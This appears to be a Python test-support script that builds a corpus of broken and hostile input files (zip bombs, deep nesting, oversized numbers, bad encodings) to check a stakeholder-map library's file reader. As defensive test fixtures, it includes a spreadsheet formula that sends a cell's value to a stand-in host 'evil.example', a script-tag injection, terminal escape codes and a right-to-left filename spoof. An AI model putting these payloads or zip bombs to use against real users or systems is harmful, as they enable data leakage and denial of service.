"""Write the hostile-file corpus and its manifest (run from the repository root).

Each file is broken or hostile in one way; ``manifest.yaml`` says what reading it
must give: ``error`` (the error class and a fragment of the message that names
the place) or ``ok`` (the number of stakeholders and relations, and for hostile
text the names that must be kept as they are). The files are made from one small
valid map; workbooks are rewritten with fixed timestamps, so running the script
again gives the same bytes. Checked by ``tests/io/test_hostile_corpus.py``::

    python tests/data/hostile/make_corpus.py
"""

from __future__ import annotations

import io
import json
import re
import shutil
import tempfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

import stakeholder_map as skm

HERE = Path(__file__).parent
OUT = HERE / "files"

#: The small valid map every file starts from.
BASE: dict[str, Any] = {
    "name": "Corpus",
    "language": "en",
    "stakeholders": [
        {"id": "a", "name": "Alpha", "power": 4, "interest": 5, "attitude": 1},
        {"id": "b", "name": "Beta", "power": 2, "interest": 3, "attitude": -1},
        {"id": "c", "name": "Gamma", "power": 3, "interest": 1},
    ],
    "relations": [
        {"source": "a", "target": "b", "kind": "information", "weight": 3},
        {"source": "b", "target": "c", "kind": "advice", "weight": 2},
    ],
}
N_OK = {"stakeholders": 3, "relations": 2}

#: Every suffix read() knows.
SUFFIXES = [
    ".xlsx", ".xlsm", ".csv", ".yaml", ".json", ".graphml", ".gexf",
    ".nodelink.json", ".kumu.json", ".kumu.xlsx", ".network.xlsx",
]  # fmt: skip
WORKBOOKS = [".xlsx", ".xlsm", ".kumu.xlsx", ".network.xlsx"]
SST = (
    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats'
    '.org/spreadsheetml/2006/main">'
)
SHEET = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
    'openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
HOSTILE_NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "html": "<script>alert('x')</script><b>Beta</b>",
    "control": "Gam\x07ma\x1b[31m",
    "rtl": "Alpha \u202egnp.exe",
}

MANIFEST: list[dict[str, Any]] = []


def _normalize_zip(data: bytes) -> bytes:
    """Rewrite a zip with fixed timestamps and fixed document dates."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "docProps/core.xml":
                body = re.sub(
                    rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", body
                )
            info = zipfile.ZipInfo(item.filename, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = item.compress_type
            info.external_attr = 0o644 << 16
            dst.writestr(info, body)
    return out.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name, body in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            dst.writestr(info, body)
    return out.getvalue()


def valid(suffix: str, data: dict[str, Any] | None = None) -> bytes:
    """Return the bytes of the map ``data`` (the base map) saved as ``suffix``."""
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / "m.json"
        src.write_text(json.dumps(data or BASE), "utf-8")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            smap = skm.read(src)
            path = skm.write(smap, Path(tmp) / f"m{suffix}")
        body = path.read_bytes()
    return _normalize_zip(body) if suffix in WORKBOOKS else body


def _sheet_name(parts: dict[str, bytes], index: int = 0) -> str:
    """Return the zip path of the workbook's sheet number ``index``."""
    names = sorted(n for n in parts if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n))
    return names[index]


def add(name: str, data: bytes, expect: str, **fields: Any) -> None:
    """Write one corpus file and record what reading it must give."""
    (OUT / name).write_bytes(data)
    MANIFEST.append({"file": name, "expect": expect, **fields})


def error(name: str, data: bytes, fragment: str, cls: str = "InputDataError") -> None:
    add(name, data, "error", error=cls, fragment=fragment)


def ok(name: str, data: bytes, **fields: Any) -> None:
    add(name, data, "ok", **N_OK, **fields)


def _stem(suffix: str) -> str:
    return suffix.lstrip(".").replace(".", "_")


# ---------------------------------------------------------------------------------
# The families
# ---------------------------------------------------------------------------------


def baseline() -> None:
    for suffix in SUFFIXES:
        if suffix == ".csv":
            continue  # a CSV holds no relations; see hostile_text
        ok(f"valid_{_stem(suffix)}{suffix}", valid(suffix))


def empty() -> None:
    for suffix in SUFFIXES:
        error(f"empty_{_stem(suffix)}{suffix}", b"", f"empty_{_stem(suffix)}{suffix}")


def truncated() -> None:
    for suffix in SUFFIXES:
        if suffix in (".csv", ".yaml"):
            continue  # a cut CSV or YAML file can be a valid, shorter one
        body = valid(suffix)
        for share in (0.3, 0.6, 0.95):
            name = f"truncated_{int(share * 100)}_{_stem(suffix)}{suffix}"
            error(name, body[: int(len(body) * share)], name)


def wrong_suffix() -> None:
    pairs = [
        (".json", ".xlsx"), (".xlsx", ".json"), (".xlsx", ".csv"), (".xlsx", ".yaml"),
        (".graphml", ".gexf"), (".gexf", ".graphml"), (".json", ".graphml"),
        (".yaml", ".json"), (".xlsx", ".nodelink.json"), (".json", ".kumu.xlsx"),
        (".graphml", ".kumu.json"), (".json", ".network.xlsx"),
    ]  # fmt: skip
    for real, claimed in pairs:
        name = f"wrongsuffix_{_stem(real)}_as_{_stem(claimed)}{claimed}"
        error(name, valid(real), name)


def bombs() -> None:
    for suffix in WORKBOOKS:
        parts = _parts(valid(suffix))
        stem = _stem(suffix)
        sheet = _sheet_name(parts)
        pad = dict(parts, **{"xl/media/pad.bin": b"\0" * (30 << 20)})
        error(f"bomb_ratio_{stem}{suffix}", _zip(pad), "xl/media/pad.bin")
        sst = SST + "<si><t>aaaaaaaa</t></si>" * 1_500_000 + "</sst>"
        strings = dict(parts, **{"xl/sharedStrings.xml": sst.encode()})
        error(f"bomb_sharedstrings_{stem}{suffix}", _zip(strings), "sharedStrings")
        rows = "<row><c><v>1</v></c></row>" * 1_200_000
        huge = dict(parts, **{sheet: SHEET.format(rows).encode()})
        error(f"bomb_hugesheet_{stem}{suffix}", _zip(huge), sheet)
        corner = SHEET.format(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        )
        error(
            f"bomb_corner_{stem}{suffix}",
            _zip(dict(parts, **{sheet: corner.encode()})),
            "row 1048576",
        )


def deep() -> None:
    nested = "[" * 50_000 + "]" * 50_000
    for suffix in (".json", ".nodelink.json", ".kumu.json"):
        error(
            f"deep_{_stem(suffix)}{suffix}",
            f'{{"name": {nested}}}'.encode(),
            "max_depth",
        )
    error("deep_flow.yaml", f"name: {nested}\n".encode(), "max_depth")
    block = "".join("  " * i + f"k{i}:\n" for i in range(300)) + "  " * 300 + "v\n"
    error("deep_block.yaml", block.encode(), "max_depth")


def long_integers() -> None:
    digits = "9" * 5000
    text = json.dumps(BASE).replace('"power": 4', f'"power": {digits}')
    error("digits_json.json", text.encode(), "'stakeholders[0].power'")
    error(
        "digits_yaml.yaml",
        yaml.safe_dump(BASE).replace("power: 4", f"power: {digits}").encode(),
        "5,000 digits",
    )
    error("digits_csv.csv", f"id,name,power\na,Alpha,{digits}\n".encode(), "power")
    nodelink = valid(".nodelink.json").decode()
    error(
        "digits_nodelink.nodelink.json",
        re.sub(r'"power": [0-9.]+', f'"power": {digits}', nodelink, count=1).encode(),
        "'nodes[0].power'",
    )
    error("digits_top.json", digits.encode(), "5,000 digits")


def encodings() -> None:
    yaml_text = yaml.safe_dump(BASE, allow_unicode=True)
    texts = {".json": json.dumps(BASE), ".yaml": yaml_text}
    for suffix, text in texts.items():
        stem = _stem(suffix)
        for enc in ("utf-8-sig", "utf-16", "cp1252"):
            ok(f"encoding_{enc.replace('-', '')}_{stem}{suffix}", text.encode(enc))
        error(f"encoding_utf32_{stem}{suffix}", text.encode("utf-32"), "UTF-32")
        error(
            f"encoding_utf16nobom_{stem}{suffix}",
            text.encode("utf-16-le"),
            "UTF-16 (no BOM)",
        )
        bad = text.replace("Alpha", "Al\x81\x8dpha").encode("latin-1")
        error(f"encoding_invalid_{stem}{suffix}", bad, "neither UTF-8 nor Windows-1252")
    csv_text = "id,name,power\na,Alpha,4\nb,Beta,2\nc,Gamma,3\n"
    for enc in ("utf-8-sig", "utf-16", "cp1252"):
        add(
            f"encoding_{enc.replace('-', '')}_csv.csv",
            csv_text.encode(enc),
            "ok",
            stakeholders=3,
            relations=0,
        )
    error("encoding_utf32_csv.csv", csv_text.encode("utf-32"), "NUL bytes")


def duplicates() -> None:
    text = json.dumps(BASE)
    error(
        "dupkey_top.json",
        text.replace('"name": "Corpus"', '"name": "Corpus", "name": "X"').encode(),
        "'name'",
    )
    error(
        "dupkey_stakeholder.json",
        text.replace('"name": "Beta"', '"name": "Beta", "name": "B"').encode(),
        "stakeholders[1]",
    )
    ytext = yaml.safe_dump(BASE, sort_keys=False)
    error("dupkey_top.yaml", ("name: X\n" + ytext).encode(), "'name'")
    nodelink = valid(".nodelink.json").decode()
    error(
        "dupkey.nodelink.json",
        nodelink.replace('"nodes":', '"nodes": [], "nodes":', 1).encode(),
        "'nodes'",
    )
    kumu = valid(".kumu.json").decode()
    error(
        "dupkey.kumu.json",
        kumu.replace('"elements":', '"elements": [], "elements":', 1).encode(),
        "'elements'",
    )


def undeclared() -> None:
    graphml = valid(".graphml").decode()
    error(
        "undeclared.graphml",
        re.sub(r'target="c"', 'target="zz"', graphml, count=1).encode(),
        "'zz'",
    )
    gexf = valid(".gexf").decode()
    error(
        "undeclared.gexf",
        re.sub(r'target="c"', 'target="zz"', gexf, count=1).encode(),
        "'zz'",
    )
    data = json.loads(valid(".nodelink.json"))
    data["links"][0]["target"] = "zz"
    error("undeclared.nodelink.json", json.dumps(data).encode(), "'zz'")
    base = json.loads(json.dumps(BASE))
    base["relations"][0]["target"] = "zz"
    error("undeclared_relation.json", json.dumps(base).encode(), "zz")
    error("undeclared_relation.yaml", yaml.safe_dump(base).encode(), "zz")


def missing_ids() -> None:
    data = json.loads(valid(".nodelink.json"))
    del data["nodes"][1]["id"]
    error("noid.nodelink.json", json.dumps(data).encode(), "nodes[1]")
    base = json.loads(json.dumps(BASE))
    del base["relations"][1]["source"]
    error("nosource_relation.json", json.dumps(base).encode(), "relations[1]")
    base = json.loads(json.dumps(BASE))
    del base["stakeholders"][2]["name"]
    base["stakeholders"][2].pop("id")
    error("noname_stakeholder.json", json.dumps(base).encode(), "stakeholders[2]")
    error("noname_stakeholder.yaml", yaml.safe_dump(base).encode(), "stakeholders[2]")


#: A wrong value for each column of a stakeholder that holds a number or a choice.
WRONG = {
    "power": "x7",
    "interest": [1, 2],
    "attitude": "9",
    "legitimacy": -4,
    "urgency": "hoog-ish",
    "proximity": {"x": 1},
    "engagement_current": "maybe",
    "participation": 17,
    "tags": {"a": 1},
}


def wrong_types() -> None:
    for column, value in WRONG.items():
        base = json.loads(json.dumps(BASE))
        base["stakeholders"][1][column] = value
        error(f"wrongtype_{column}.json", json.dumps(base).encode(), "stakeholders[1]")
        error(
            f"wrongtype_{column}.yaml", yaml.safe_dump(base).encode(), "stakeholders[1]"
        )
        if not isinstance(value, list | dict):
            cell = str(value)
            csv_text = f"id,name,{column}\na,Alpha,\nb,Beta,{cell}\n"
            # A value off the scale is refused for the column as a whole.
            place = f"column '{column}'" if column == "attitude" else "row 3"
            error(f"wrongtype_{column}.csv", csv_text.encode(), place)
            error(f"wrongtype_{column}.xlsx", _xlsx_with(column, value), place)
    base = json.loads(json.dumps(BASE))
    base["relations"][0]["weight"] = "zwaar"
    error("wrongtype_weight.json", json.dumps(base).encode(), "relations[0]")


def _xlsx_with(column: str, value: Any) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "stakeholders"
    ws.append(["id", "name", column])
    ws.append(["a", "Alpha", None])
    ws.append(["b", "Beta", value])
    buffer = io.BytesIO()
    wb.save(buffer)
    return _normalize_zip(buffer.getvalue())


def formulas() -> None:
    for suffix in WORKBOOKS:
        parts = _parts(valid(suffix))
        sheet = _sheet_name(parts)
        xml = parts[sheet].decode()
        # Turn the first number cell into a formula saved without its value.
        xml, n = re.subn(
            r"<c r=\"([A-Z]+\d+)\"([^>]*)><v>[^<]*</v></c>",
            r'<c r="\1"\2><f>1+1</f></c>',
            xml,
            count=1,
        )
        assert n == 1, suffix
        parts[sheet] = xml.encode()
        error(f"formula_{_stem(suffix)}{suffix}", _zip(parts), "formula")


def hostile_text() -> None:
    for kind, name in HOSTILE_NAMES.items():
        base = json.loads(json.dumps(BASE))
        base["stakeholders"][1]["name"] = name
        for suffix in (".xlsx", ".json", ".yaml", ".graphml", ".nodelink.json"):
            if kind == "control" and suffix in (".xlsx", ".graphml"):
                continue  # XML (and so an xlsx cell) cannot hold control characters
            ok(
                f"text_{kind}_{_stem(suffix)}{suffix}",
                valid(suffix, base),
                names=[name],
            )
        quoted = name.replace('"', '""')
        csv_text = f'id,name\na,Alpha\nb,"{quoted}"\nc,Gamma\n'
        add(
            f"text_{kind}_csv.csv",
            csv_text.encode(),
            "ok",
            stakeholders=3,
            relations=0,
            names=[name],
        )


FAMILIES: list[Callable[[], None]] = [
    baseline, empty, truncated, wrong_suffix, bombs, deep, long_integers,
    encodings, duplicates, undeclared, missing_ids, wrong_types, formulas,
    hostile_text,
]  # fmt: skip


def main() -> None:
    shutil.rmtree(OUT, ignore_errors=True)
    OUT.mkdir()
    MANIFEST.clear()
    for family in FAMILIES:
        family()
    header = (
        "# Written by make_corpus.py; what reading each file in files/ must give.\n"
    )
    text = yaml.safe_dump(MANIFEST, sort_keys=False, allow_unicode=False, width=200)
    (HERE / "manifest.yaml").write_text(header + text, "utf-8")
    print(f"{len(MANIFEST)} files in {OUT}")


if __name__ == "__main__":
    main()
